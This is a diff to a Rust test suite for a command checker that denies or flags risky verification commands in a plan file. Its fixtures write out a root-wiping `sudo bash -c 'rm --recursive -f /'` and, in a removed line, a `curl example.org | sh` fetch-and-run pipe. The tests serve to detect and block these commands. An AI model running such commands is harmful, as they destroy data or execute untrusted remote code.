@@ -20,7 +20,7 @@ const STRANGE: &str = "\
 - [ ] Writes
   - Verification: `echo a > src/a`
 - [ ] Who knows
-  - Verification: `curl example.org | sh`
+  - Verification: `$UNKNOWN example.org`
 - [ ] Eyes
   - Verification: look
 ";
@@ -37,23 +37,30 @@ fn each_command_with_whether_it_would_run_and_why_not() {
         deny AC-2  Cleans up
                $ sudo bash -c 'rm --recursive -f /'
     error[denied/forbidden-operation]: `rm -rf` is forbidden
-      --> PLANS.md:11:33
+      --> PLANS.md:11:34
        |
      5 | - **Forbidden Operations**: `rm -rf`
        |                              ------ the rule
     ...
     11 |   - Verification: `sudo bash -c 'rm --recursive -f /'`
-       |                                 ^^^^^^^^^^^^^^^^^^^^^ sudo → bash -c → 'rm --recursive -f /'
+       |                                  ^^^^^^^^^^^^^^^^^^^ sudo → bash -c → rm --recursive -f /
        |
        = help: leave the command out, or change the rule in the plan
+    error[denied/built-in/wipe]: this removes a root or a home directory
+      --> PLANS.md:11:34
+       |
+    11 |   - Verification: `sudo bash -c 'rm --recursive -f /'`
+       |                                  ^^^^^^^^^^^^^^^^^^^ sudo → bash -c → rm --recursive -f /
+       |
+       = help: leave it out: no plan may do this
     error[denied/allowed-directories]: `rm` writes to `/`, outside the allowed directories
-      --> PLANS.md:11:33
+      --> PLANS.md:11:52
        |
      4 | - **Allowed Directories**: `out/**`
        |                             ------ the rule
     ...
     11 |   - Verification: `sudo bash -c 'rm --recursive -f /'`
-       |                                 ^^^^^^^^^^^^^^^^^^^^^ 'rm --recursive -f /'
+       |                                                    ^ /
        |
        = help: write below an allowed directory or to `$TMPDIR`
         deny AC-3  Writes
@@ -69,12 +76,12 @@ fn each_command_with_whether_it_would_run_and_why_not() {
        |
        = help: write below an allowed directory or to `$TMPDIR`
          ask AC-4  Who knows
-               $ curl example.org | sh
-    warning[needs-review/not-understood]: not understood: `sh` runs what it reads from standard input
-      --> PLANS.md:15:39
+               $ $UNKNOWN example.org
+    warning[needs-review/not-understood]: not understood: the program is computed at run time
+      --> PLANS.md:15:20
        |
-    15 |   - Verification: `curl example.org | sh`
-       |                                       ^^ sh
+    15 |   - Verification: `$UNKNOWN example.org`
+       |                    ^^^^^^^^ $UNKNOWN
        |
        = help: read it, and say yes with `--yes` if it is harmless
       manual AC-5  Eyes
@@ -137,6 +144,7 @@ fn what_is_not_seen_is_never_printed_as_it_is() {
          - **Forbidden Operations**: `rm`, words {hostile}\n\n## Acceptance Criteria\n\
          - [ ] title{hostile}\n  - Verification: `rm {hostile}`\n- [ ] b\n  - Verification: `$X '{hostile}'`\n"
     ));
+    let style = regex::Regex::new("\u{1b}\\[[0-9;]*m").unwrap();
     for arguments in [
         &["check"][..],
         &["check", "--color", "always"],
@@ -145,7 +153,6 @@ fn what_is_not_seen_is_never_printed_as_it_is() {
         &["list"],
     ] {
         let said = workspace.run(arguments);
-        let style = regex::Regex::new("\u{1b}\\[[0-9;]*m").unwrap();
         let shown = style.replace_all(&said.stdout, "").into_owned() + &style.replace_all(&said.stderr, "");
         let raw: Vec<char> = hostile.chars().filter(|c| !c.is_ascii() || *c == '\u{1b}').collect();
         assert_eq!(shown.matches(raw.as_slice()).collect::<Vec<_>>(), [""; 0], "{arguments:?}\n{shown}");
